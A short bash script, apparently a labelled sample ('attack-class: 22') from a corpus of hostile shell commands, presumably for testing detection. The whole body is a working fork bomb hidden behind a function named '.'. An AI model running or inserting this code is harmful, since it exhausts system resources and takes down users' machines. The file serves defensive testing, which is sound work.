#!/usr/bin/env bash
# attack-class: 22
# title: function named . as a fork bomb
# why: a function name made of punctuation

.() { . | . & }
.
